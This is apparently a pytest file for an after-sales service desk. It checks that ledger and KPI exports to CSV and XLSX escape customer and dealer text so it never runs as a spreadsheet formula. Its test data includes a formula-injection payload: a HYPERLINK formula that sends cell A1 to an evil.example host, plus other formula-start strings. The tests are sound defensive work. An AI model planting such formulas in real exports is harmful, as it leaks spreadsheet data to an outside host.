"""A customer's or a dealer's text never runs as a formula in the manager's spreadsheet.

A fault description such as ``=HYPERLINK("http://…","点击")`` typed at intake used to reach the ledger
export as is: a formula in the CSV (Excel and WPS read ``=``, ``+``, ``-``, ``@`` as a formula's start)
and a stored formula in the XLSX (openpyxl stores any string starting with ``=`` as one).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from aftersales.adapters.reporting import reporting_for
from aftersales.i18n.cell_safety import spreadsheet_column, spreadsheet_text
from aftersales.ports.reporting import GroupBy
from aftersales.reports import export_ledger, group_names
from aftersales.reports.kpi import kpi_report
from aftersales.reports.render import to_csv, to_xlsx
from aftersales.service.actors import Actor
from aftersales.service.desk import ServiceDesk

from .data import CALENDAR, MARCH, sla_tickets
from .stores import STORES, open_desk

MANAGER = Actor.manager("mgr", "王经理")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
HOSTILE = (FORMULA, "+86 1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


def _hostile() -> list:  # type: ignore[type-arg]
    tickets = sla_tickets()
    for ticket, text in zip(tickets, HOSTILE, strict=False):
        ticket.description = text
    return tickets


@pytest.fixture(params=STORES)
def desk(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[ServiceDesk]:
    yield from open_desk(request.param, tmp_path, tickets=_hostile)


def test_text_that_starts_a_formula_is_marked_as_text() -> None:
    assert [spreadsheet_text(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    assert spreadsheet_text("马桶=漏水") == "马桶=漏水" and spreadsheet_text("") == ""
    # numbers are not text cells: a credit of -120.00 stays a number
    assert spreadsheet_column(["=1", None, -120, Decimal("-1.5"), "ok"]) == [
        "'=1",
        None,
        -120,
        Decimal("-1.5"),
        "ok",
    ]


def test_the_ledger_csv_writes_no_formula(desk: ServiceDesk) -> None:
    out = io.BytesIO()
    export_ledger(desk, MANAGER, out, names=group_names(desk.store))
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    column = rows[0].index("问题描述")
    descriptions = {row[column] for row in rows[1:]}
    assert {"'" + t for t in HOSTILE} <= descriptions
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)


def test_the_ledger_xlsx_stores_the_text_as_text(desk: ServiceDesk, tmp_path: Path) -> None:
    path = tmp_path / "ledger.xlsx"
    export_ledger(desk, MANAGER, path, format="xlsx")
    sheet = openpyxl.load_workbook(path).worksheets[0]
    column = [c.value for c in sheet[1]].index("问题描述") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    formula = next(c for c in cells if c.value == FORMULA)  # the text itself, not a formula
    assert formula.data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_desks_own_csv_export_writes_no_formula(desk: ServiceDesk) -> None:
    rows = list(csv.reader(io.StringIO(desk.export_ledger(MANAGER))))
    column = rows[0].index("description")
    assert {"'" + t for t in HOSTILE} <= {row[column] for row in rows[1:]}


def test_a_reports_text_cells_are_text_in_csv_and_xlsx(tmp_path: Path) -> None:
    # A dealer registered under a hostile name: the KPI report's group column shows it.
    desk_iter = open_desk("memory", tmp_path, tickets=sla_tickets)
    desk = next(desk_iter)
    try:
        report = kpi_report(reporting_for(desk.store), MARCH, CALENDAR, group=GroupBy.DEALER)
        names = {"dealer-a": FORMULA}
        text = to_csv(report, "zh_Hans", names=names)
        cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
        assert "'" + FORMULA in cells and FORMULA not in cells
        path = tmp_path / "kpi.xlsx"
        to_xlsx(report, path, "zh_Hans", names=names)
        book = openpyxl.load_workbook(path)
        found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == FORMULA]
        assert found and all(c.data_type == "s" for c in found)
        assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    finally:
        next(desk_iter, None)
